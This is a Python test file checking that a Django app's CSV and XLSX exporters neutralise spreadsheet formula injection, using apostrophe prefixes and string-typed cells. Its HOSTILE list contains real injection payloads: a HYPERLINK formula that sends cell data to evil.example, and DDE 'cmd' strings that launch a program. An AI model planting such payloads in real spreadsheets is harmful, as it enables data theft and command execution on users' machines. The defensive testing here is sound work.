"""The one CSV/XLSX exporter neutralises formulas (issue 5, security finding 5)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest
from django.urls import reverse

from linli import testing
from linli.accounts.models import Role
from linli.core.spreadsheets import csv_cell, stream_csv, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


class TestCsv:
    def test_formula_texts_get_an_apostrophe(self):
        rows = read_csv(write_csv([[text] for text in HOSTILE], headers=["名称"]))
        assert rows == [["名称"]] + [["'" + text] for text in HOSTILE]

    def test_ordinary_values_are_unchanged(self):
        stamp = datetime(2026, 3, 1, 2, 30, tzinfo=UTC)  # 10:30 in Beijing
        rows = read_csv(write_csv([["望京街道", "001", -5, 2.5, None, True, stamp, "a=b", "电话-1"]]))
        assert rows == [["望京街道", "001", "-5", "2.5", "", "True", "2026-03-01 10:30:00", "a=b", "电话-1"]]

    def test_headers_are_neutralised_too(self):
        assert read_csv(write_csv([], headers=["=cmd"])) == [["'=cmd"]]

    def test_crlf_lines_and_streaming_match(self):
        data = write_csv([["a", "b"], ["c", "d"]], headers=["x", "y"])
        assert data == "\ufeffx,y\r\na,b\r\nc,d\r\n".encode()
        assert "".join(stream_csv([["a", "b"], ["c", "d"]], headers=["x", "y"])).encode() == data

    def test_cell(self):
        assert csv_cell("=1") == "'=1"
        assert csv_cell(None) == ""
        assert csv_cell(-1) == "-1"


class TestXlsx:
    def test_formula_texts_are_strings_not_formulas(self):
        data = write_xlsx([[text, 7, -5] for text in HOSTILE], headers=["=名称", "数", "负数"])
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        header = sheet[1]
        assert header[0].value == "=名称"
        assert header[0].data_type == "s"
        assert header[0].quotePrefix is True
        for row_number, text in enumerate(HOSTILE, start=2):
            cell = sheet.cell(row=row_number, column=1)
            assert cell.value == text.replace("\r", "\n")  # XML reads a carriage return back as \n
            assert cell.data_type == "s"  # a formula cell would be "f"
            assert cell.quotePrefix is True
            assert sheet.cell(row=row_number, column=2).value == 7
            assert sheet.cell(row=row_number, column=3).value == -5
            assert sheet.cell(row=row_number, column=3).data_type == "n"
        xml = _sheet_xml(data)
        assert b"<f>" not in xml and b"<f " not in xml

    def test_text_columns_and_width(self):
        data = write_xlsx(
            [["001", None]], headers=["编码", "x"], sheet_title="areas", text_columns=True, column_width=18
        )
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        assert sheet.title == "areas"
        assert sheet["A2"].value == "001"
        assert sheet["A2"].number_format == "@"
        assert sheet["B2"].value is None
        assert sheet.column_dimensions["A"].width == 18
        assert sheet.column_dimensions["B"].width == 18


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


@pytest.mark.django_db
class TestAreaImportTemplate:
    """The area import template carries the officer's own area names: hostile ones are inert."""

    @pytest.fixture
    def officer_client(self, tree, make_staff):
        tree.street.name = HOSTILE[0]
        tree.street.save(update_fields=["name"])
        return testing.client_for(make_staff(Role.STREET_OFFICER, tree.street))

    def test_csv(self, officer_client):
        response = officer_client.get(reverse("areas:import_template", args=["csv"]))
        assert response.status_code == 200
        rows = read_csv(response.content)
        assert rows == [
            ["类型", "编码", "名称", "上级编码路径", "GeoJSON"],
            ["街道", "001", "'" + HOSTILE[0], "110105", ""],
        ]

    def test_xlsx(self, officer_client):
        response = officer_client.get(reverse("areas:import_template", args=["xlsx"]))
        assert response.status_code == 200
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        assert [cell.value for cell in sheet[2]] == ["街道", "001", HOSTILE[0], "110105", None]
        name = sheet["C2"]
        assert name.data_type == "s"
        assert name.quotePrefix is True
        assert sheet["B2"].number_format == "@"
        assert b"<f>" not in _sheet_xml(response.content)
